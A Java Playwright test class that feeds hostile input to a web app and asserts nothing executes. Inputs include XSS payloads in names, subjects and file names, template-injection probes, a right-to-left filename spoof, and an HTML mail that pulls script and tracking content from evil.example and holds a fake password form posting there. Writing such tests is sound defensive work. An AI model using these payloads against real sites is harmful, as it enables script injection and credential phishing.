package dev.rapport.web.journey;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import dev.rapport.CallOf;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/**
 * What strangers write stays what it is, words: in the text and the layout of a mail, in names, subjects and names of files.
 *
 * <p>That no dialog opens, nothing is asked of another server and our own policy has nothing to forbid is seen by the
 * {@link Visitor}.
 */
abstract class HostileJourney extends Journey {

    /** Comes into a name through the quotes of a header, an attribute, a text. */
    private static final String NAME = "\\\"><img src=x onerror=alert(1)><script>alert(2)</script>";

    private static final String LONG = "Wolfeschlegelsteinhausenbergerdorff".repeat(12);
    private static final String TURNED = "\u202egpj.exe \u2067invoice";

    private static final String MAIL = """
            From: "%1$s" <mallory@evil.example>
            To: "%2$s" <support@northwind.example>
            Subject: </title><script>alert(3)</script> {{7*7}} ${7*7} %3$s
            Date: Mon, 1 Jan 2024 10:00:00 +0000
            Message-ID: <hostile-1@evil.example>
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary="b"

            --b
            Content-Type: text/html; charset=utf-8

            <html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
            <base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/style.css">
            <style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png) }
            * { position: fixed; inset: 0; font-size: 900px }</style></head>
            <body onload="alert(4)" background="http://evil.example/body.png"><p>Hostile greetings from the quarry.</p>
            <img src="x" onerror="alert(5)"><img src="http://evil.example/pixel.gif" width="1" height="1">
            <a href="javascript:alert(6)">click</a><a href="  java&#10;script:alert(7)">here</a>
            <div style="background-image:url('http://evil.example/div.png');position:fixed;top:0;left:0;width:9999px">over all</div>
            <svg onload="alert(8)"><a xlink:href="javascript:alert(9)"><text>svg</text></a></svg><math><mtext></math>
            <iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
            <form action="http://evil.example/form"><input name="password"><button>Log in again</button></form>
            <video src="http://evil.example/v.mp4" autoplay></video><script src="http://evil.example/s.js"></script>
            <script>alert(10)</script></body></html>
            --b
            Content-Type: text/plain; name="x.txt"
            Content-Disposition: attachment; filename="%1$s.txt"

            </pre><script>alert(11)</script>
            --b--
            """;

    @TempDir
    private Path folder;

    @Test
    void hostileMailAndNamesStayInert() throws IOException {
        String mail = mail(MAIL.formatted(NAME, LONG, TURNED));
        String account = customer();
        String chat = chat();
        brokenRecording();
        awaitProcessed(mail);
        awaitProcessed(chat);
        await().atMost(Duration.ofSeconds(30))
                .until(() ->
                        rapport().get("/api/v1/search?q=quarry").get("total").asInt() >= 2);
        try (Visitor reader = site().user()) {
            lookAtTheMail(reader, mail);
            for (String path : pages(account, chat)) {
                reader.open(path);
                assertInert(reader.page());
            }
        }
    }

    private static Set<String> pages(String account, String chat) {
        return new LinkedHashSet<>(List.of(
                "/conversations/" + chat,
                "/",
                "/conversations",
                "/search?q=quarry",
                "/customers",
                "/customers?kind=contacts",
                "/accounts/" + account,
                "/review",
                "/quarantine",
                "/pipeline"));
    }

    private static void lookAtTheMail(Visitor reader, String mail) {
        Page page = reader.page();
        reader.open("/conversations/" + mail);
        assertThat(page.locator(".written").first()).containsText("Hostile greetings from the quarry.");
        assertInert(page);
        page.getByText("As it was laid out").click();
        assertThat(page.frameLocator("iframe.laid-out").locator("body")).containsText("Hostile greetings");
        for (Frame frame : page.frames()) {
            assertThat(frame.locator(
                                    "[onerror], [onload], [onclick], a[href*='script:' i], iframe iframe, object, base[href]")
                            .count())
                    .as("what could act in %s", frame.url())
                    .isZero();
        }
        assertThat(page.frameLocator("iframe.laid-out")
                        .locator("script, form, input, link, meta[http-equiv], video, svg, [style*='position' i]"))
                .hasCount(0);
    }

    /** No element came to be of what was written, and nothing breaks the page's width. */
    private static void assertInert(Page page) {
        assertThat(page.locator(
                        "img[src='x'], main script:not([src^='/']), [onerror], [onload], a[href^='javascript' i]"))
                .hasCount(0);
        for (int width : List.of(EveryPageJourney.PHONE_WIDTH, Site.DESKTOP_WIDTH)) {
            page.setViewportSize(width, Site.DESKTOP_HEIGHT);
            assertThat(Audit.wider(page)).as(page.url()).isEmpty();
        }
    }

    private String customer() {
        String json = """
                {"name": "%s", "domains": ["evil.example"]}""";
        HttpResponse<String> made = rapport().post("/api/v1/accounts", json.formatted(NAME + " " + TURNED));
        assertThat(made.statusCode()).as(made.body()).isBetween(200, 201);
        String account = dev.rapport.RunningRapport.json(made).get("id").asString();
        String contact = """
                {"accountId": "%s", "name": "%s", "title": "%s", "emails": ["mallory@evil.example"]}""";
        HttpResponse<String> person = rapport().post("/api/v1/contacts", contact.formatted(account, LONG, NAME));
        assertThat(person.statusCode()).as(person.body()).isBetween(200, 201);
        return account;
    }

    private String chat() {
        HttpResponse<String> answer = rapport().post("/api/v1/chats", """
                {"platform": "web", "externalId": "hostile-1", "participants": [{"id": "m", "name": "%1$s", "side": "THEIRS"},
                 {"id": "l", "name": "%2$s", "side": "OURS"}], "messages": [
                 {"id": "1", "from": "m", "sentAt": "2024-01-01T10:00:00Z", "text": "%1$s <a href='javascript:alert(12)'>quarry</a> %3$s"},
                 {"id": "2", "from": "l", "sentAt": "2024-01-01T10:01:00Z", "text": "%2$s", "replyTo": "1"}]}
                """.formatted(NAME, LONG, TURNED));
        return conversationOf(answer);
    }

    /** Cut off in its middle, so that it goes to quarantine with its name. */
    private void brokenRecording() throws IOException {
        byte[] half = Arrays.copyOf(Files.readAllBytes(CallOf.wav("price")), 60_000);
        Path file = Files.write(folder.resolve("<img src=x onerror=alert(13)>" + "a".repeat(150) + ".wav"), half);
        String subject = """
                {"externalId": "broken", "subject": "%s", "parties": [{"side": "THEIRS", "name": "%s"}]}""";
        HttpResponse<String> sent =
                rapport().upload("/api/v1/calls", "audio", file, "metadata", subject.formatted(NAME, LONG));
        conversationOf(sent);
        await("it is in quarantine")
                .atMost(Visitor.PATIENCE)
                .until(() -> rapport()
                        .get("/api/v1/quarantine")
                        .get("items")
                        .valueStream()
                        .map(JsonNode::toString)
                        .anyMatch(entry -> entry.contains("onerror")));
    }
}
